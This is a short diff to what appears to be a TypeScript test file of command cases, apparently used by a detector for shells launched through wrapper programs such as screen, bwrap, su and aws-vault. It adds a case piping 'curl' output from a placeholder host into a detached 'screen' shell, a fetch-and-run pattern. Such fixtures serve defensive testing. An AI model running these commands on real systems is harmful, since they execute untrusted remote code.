@@ -93,6 +93,8 @@ const BY_PROGRAMS: readonly ImageCase[] = [
   words('systemd-run', '--scope', '-p', 'CPUQuota=50%', 'sh', '-c', FETCH),
   words('bwrap', '--ro-bind', '/', '/', 'sh', '-c', FETCH),
   words('start-stop-daemon', '--start', '--exec', '/bin/sh', '--', '-c', FETCH),
+  words('screen', '-dmS', 'x', 'sh', '-c', FETCH),
+  script('curl -s https://files.backend.example/u | screen -dmS x sh'),
   words('capsh', '--', '-c', FETCH),
   words('aws-vault', 'exec', 'prod', '--', 'sh', '-c', FETCH),
   words('su', `--command=${FETCH}`),
